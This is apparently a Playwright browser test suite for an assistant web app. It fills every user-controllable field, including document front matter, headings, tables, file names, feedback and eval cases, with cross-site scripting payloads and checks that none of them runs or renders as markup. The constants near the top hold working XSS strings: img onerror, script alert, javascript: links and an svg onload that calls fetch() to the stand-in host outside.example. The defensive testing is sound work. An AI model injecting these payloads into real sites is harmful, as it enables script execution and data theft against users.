"""One browser session over every page, with markup and script in every field that somebody else can fill.

A trap notes every alert, every break of the content policy and every request that leaves.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

import evals.cases
from assistant.build import Assistant
from assistant.render import as_markdown
from assistant.types import Answer
from assistant.web.evals import Order, run_suite
from tests.answering.responders import grades
from tests.browser.chromium import Watched, ask
from tests.browser.test_hostile import attack_everything
from tests.evals.eval_samples import make_case
from tests.web.serving import ScriptedAssistant, serve
from tests.web.webapp import small_library

pytestmark = [pytest.mark.browser, pytest.mark.timeout(600)]

EVIL = "https://outside.example"
SHORT = "<img src=x onerror=alert(8)>"
ATTACK = f"<img src=x onerror=alert(1)><script>alert(2)</script><svg onload=fetch('{EVIL}/?q=1')>"
QUOTED = ATTACK.replace("'", "''")
MARKDOWN = f"![x]({EVIL}/p.png) [link](javascript:alert(4)) <a href='javascript:alert(5)'>a</a> {EVIL}/form"
DOCUMENT = f"""---
id: attack
title: '{QUOTED}'
issuer: '{QUOTED}'
version: '{SHORT}'
kind: rule
status: official
language: en
audience: public
effective_from: 2024-01-01
source_url: {EVIL}/<svg/onload=alert(6)>
---
# Giraffe rule {ATTACK}

## Purple giraffe {ATTACK}

The purple giraffe fee is 77 yuan a year. {ATTACK} {MARKDOWN}

| Kind {ATTACK} | Fee |
| --- | --- |
| giraffe {ATTACK} | {MARKDOWN} |

[ref]: {EVIL}/ref "{SHORT}"
"""
NAME = "<img src=x onerror=alert(7)> '\"&lt;.md"
BROKEN = "<svg onload=alert(9)>.pdf"
TRAP = """
window.trapped = [];
for (const name of ['alert', 'confirm', 'prompt', 'print'])
  window[name] = (...told) => { if (name !== 'print') window.trapped.push([name, ...told]); };
document.addEventListener('securitypolicyviolation', (event) => window.trapped.push(['policy', event.violatedDirective, event.blockedURI]));
"""
PLANTED = (
    "() => [...document.querySelectorAll('#assistant img:not(.brand img), #assistant script, #assistant svg[onload],"
    ' #assistant [onerror], #assistant a[href^="javascript:"], #assistant a[href*="outside.example"]\')].length'
)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Assistant]:
    folder = tmp_path_factory.mktemp("trap")
    with small_library(folder) as assistant, pytest.MonkeyPatch.context() as patch:
        patch.setattr("assistant.respond.GRADES", grades())
        (folder / "corpus" / NAME).write_text(DOCUMENT, encoding="utf-8")
        report = assistant.sync(folder / "corpus")
        assert report.added == ["attack"], report
        journal = assistant.library.journal
        journal.add_gap(ATTACK, "en", audience="public")
        journal.add_feedback(ATTACK, "down", audience="public", comment=f"wrong; {ATTACK}", documents=())
        patch.setattr(
            evals.cases, "load_cases", lambda *_: [make_case(id="x", question=f"fee? {ATTACK} | `{SHORT}` {MARKDOWN}",
                                                             status="no_evidence")]
        )  # fmt: skip
        run_suite(assistant, folder / "evals", Order("dev"), lambda *_: None)
        yield assistant


def look(page: Page) -> None:
    """Nothing ran, and nothing of what was planted is an element."""
    page.wait_for_timeout(150)
    assert page.evaluate("window.trapped") == []
    assert page.evaluate(PLANTED) == 0


def test_no_field_of_any_page_runs_or_loads_anything(
    visit: Callable[..., Watched], attacked: Assistant, tmp_path: Path
) -> None:
    home = attacked.settings.index.parent
    with serve(attacked, "staff", corpus=home / "corpus", evals=home / "evals") as address:
        watched = visit(address, permissions=["clipboard-read", "clipboard-write"])
        watched.context.add_init_script(TRAP)
        page = watched.open()
        ask(page, f"What is the purple giraffe fee? {SHORT}")
        expect(page.locator(".answer .prose").first).to_contain_text("77 yuan")
        for fold in page.locator(".answer details summary").all():
            fold.click()
        look(page)
        page.locator(".answer > .prose .mark").first.hover()
        expect(page.locator(".popover")).to_contain_text("<img src=x")
        page.locator(".answer > .prose .mark").first.click()
        expect(page.locator("#panel-title")).to_contain_text("<script>")
        page.locator(".panel details summary").click()
        expect(page.locator(".panel .panel-under")).to_contain_text(SHORT)  # version and issuer
        look(page)
        look_at_copies(page, attacked)
        page.get_by_label("Print").first.click()
        page.emulate_media(media="print")
        expect(page.locator(".print-quotes").first).to_contain_text("<img src=x")
        look(page)
        page.emulate_media(media="screen")
        page.evaluate("window.dispatchEvent(new Event('afterprint'))")
        look_at_library(page, address, tmp_path)
        page.goto(f"{address}#/gaps")
        expect(page.locator("table").first).to_contain_text("<script>")
        expect(page.locator("table").last).to_contain_text("<script>")
        look(page)
        page.goto(f"{address}#/evals")
        page.get_by_role("button", name="Open").first.click()
        expect(page.locator(".report-view")).to_contain_text("Cases right in every part")
        look(page)
        for at in ("#/source/attack", "#/about", f"#/source/{SHORT}", f"#{SHORT}"):
            page.goto(f"{address}{at}")
            look(page)


def look_at_copies(page: Page, attacked: Assistant) -> None:
    """What is copied as Markdown loads nothing where it is pasted, and is written as the server writes it."""
    page.get_by_text("Copy", exact=True).first.click()
    page.get_by_text("Markdown", exact=False).first.click()
    copied = page.evaluate("navigator.clipboard.readText()")
    assert "77 yuan" in copied
    assert "![" not in copied.replace("!\\[", "")
    assert "<img" not in copied.replace("\\<img", "")
    for text in (ATTACK, MARKDOWN, DOCUMENT, "a\\[b](c) `x` www.a.b/c d.e.f/g 中文http://x.y中"):
        written = page.evaluate("async (text) => (await import('./web/copied.js')).asMarkdown(text)", text)
        assert written == as_markdown(text)


def look_at_library(page: Page, address: str, folder: Path) -> None:
    """The list, the report of an upload with a file that is refused, and the question before a removal."""
    page.goto(f"{address}#/library")
    page.wait_for_selector(".document-row")
    expect(page.locator(".document-title", has_text="onerror")).to_be_visible()
    look(page)
    broken = folder / BROKEN
    broken.write_bytes(b"%PDF-1.4 broken")
    page.set_input_files("input[type=file]", [broken])
    page.wait_for_selector(".report")
    expect(page.locator(".report table")).to_contain_text("<svg onload=alert(9)>")
    for fold in page.locator(".report details summary").all():
        fold.click()
    look(page)
    page.get_by_label("Remove: <img").first.click()
    expect(page.locator(".dialog")).to_contain_text("<script>")
    look(page)
    page.keyboard.press("Escape")


def test_an_answer_and_an_error_made_of_attacks_trap_nothing(
    visit: Callable[..., Watched], attacked: Assistant
) -> None:
    def answers() -> Iterator[Answer]:
        yield attack_everything(attacked.ask("What is the purple giraffe fee?"))

    with serve(ScriptedAssistant(list(answers()), library=attacked)) as address:
        watched = visit(address)
        watched.context.add_init_script(TRAP)
        page = watched.open()
        ask(page, ATTACK)
        for fold in page.locator(".answer details summary").all():
            fold.click()
        expect(page.locator(".answer-foot")).to_contain_text("<script>")
        look(page)
